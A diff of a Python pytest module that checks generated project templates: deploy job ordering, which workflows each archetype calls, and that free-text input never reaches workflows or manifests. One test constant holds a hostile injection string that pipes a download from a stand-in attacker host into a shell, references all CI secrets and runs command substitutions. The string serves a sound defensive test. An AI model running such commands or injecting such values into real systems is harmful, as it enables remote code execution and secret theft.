@@ -10,7 +10,15 @@ import yaml
 
 from tests.templates.real_tools import workflows
 from tests.templates.real_tools.toolbox import run, tool
-from tests.templates.rendering import REPOSITORY, VARIATIONS, policy_for, render, render_under, sample_policy
+from tests.templates.rendering import (
+    CASES,
+    REPOSITORY,
+    policy_for,
+    render,
+    render_under,
+    sample_of,
+    sample_policy,
+)
 
 pytestmark = pytest.mark.tools
 
@@ -20,10 +28,9 @@ FREE_TEXT = "x\"; curl evil.example | sh #' ${{ secrets.ALL }} $(id) `id`"
 
 @pytest.fixture(scope="module")
 def projects(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
-    """One project of every variation."""
+    """One project of every archetype and variation."""
     return [
-        render("online-serving", tmp_path_factory.mktemp("project"), **answers)
-        for answers in VARIATIONS.values()
+        render(case[0], tmp_path_factory.mktemp("project"), **sample_of(*case)) for case in CASES
     ]
 
 
@@ -120,21 +127,53 @@ def test_secrets_are_passed_by_name_and_never_inherited(files: list[Path]) -> No
     assert not [file for file in files if re.search(r"secrets:\s*inherit", file.read_text())]
 
 
-def test_environments_are_deployed_in_the_policy_s_order(tmp_path: Path) -> None:
-    project = render_under(policy_for("test", "live"), "online-serving", tmp_path)
+@pytest.mark.parametrize(
+    ("archetype", "options", "first"),
+    [
+        ("online-serving", {}, "image"),
+        ("batch", {}, "image"),
+        ("batch", {"databricks": True}, "policy"),
+    ],
+)
+def test_environments_are_deployed_in_the_policy_s_order(
+    tmp_path: Path, archetype: str, options: dict[str, bool], first: str
+) -> None:
+    project = render_under(policy_for("test", "live"), archetype, tmp_path, **options)
 
     jobs = workflows.read(project / ".github/workflows/deploy.yml")["jobs"]
-    assert list(jobs) == ["policy", "image", "deploy-test", "deploy-live"]
-    assert jobs["image"]["needs"] == "policy"
-    assert jobs["deploy-test"]["needs"] == ["image"]
-    assert jobs["deploy-live"]["needs"] == ["image", "deploy-test"]
+    order = ["policy", *([first] if first == "image" else []), "deploy-test", "deploy-live"]
+    assert list(jobs) == order
+    assert jobs[order[1]]["needs"] in ("policy", ["policy"])
+    assert first in jobs["deploy-test"]["needs"]
+    assert "deploy-test" in jobs["deploy-live"]["needs"]
 
 
-def test_free_text_reaches_no_workflow_no_image_and_no_manifest(tmp_path: Path) -> None:
-    plain = render("online-serving", tmp_path / "plain", description="plain")
-    hostile = render("online-serving", tmp_path / "hostile", description=FREE_TEXT)
+def test_each_place_is_deployed_to_by_its_own_workflow(tmp_path: Path) -> None:
+    cluster = render("batch", tmp_path / "cluster")
+    bundle = render("batch", tmp_path / "bundle", databricks=True)
 
-    for part in (".github/workflows", "deploy", "monitoring", "Dockerfile"):
-        for file in [plain / part, *(plain / part).rglob("*")]:
-            if file.is_file():
-                assert (hostile / file.relative_to(plain)).read_bytes() == file.read_bytes()
+    def called(project: Path) -> set[str]:
+        return {call.workflow for call in workflows.calls(project)}
+
+    assert called(cluster) == {"python-ci.yml", "build-image.yml", "deploy-kubernetes.yml"}
+    assert called(bundle) == {"python-ci.yml", "deploy-databricks.yml"}
+
+
+@pytest.mark.parametrize(
+    ("archetype", "options"),
+    [("online-serving", {}), ("batch", {}), ("batch", {"databricks": True})],
+)
+def test_free_text_reaches_no_workflow_no_image_and_no_manifest(
+    tmp_path: Path, archetype: str, options: dict[str, bool]
+) -> None:
+    plain = render(archetype, tmp_path / "plain", description="plain", **options)
+    hostile = render(archetype, tmp_path / "hostile", description=FREE_TEXT, **options)
+
+    parts = (".github/workflows", "deploy", "monitoring", "resources", "Dockerfile")
+    for file in [plain / "databricks.yml", *(f for p in parts for f in within(plain / p))]:
+        if file.is_file():
+            assert (hostile / file.relative_to(plain)).read_bytes() == file.read_bytes()
+
+
+def within(place: Path) -> list[Path]:
+    return [place, *place.rglob("*")]
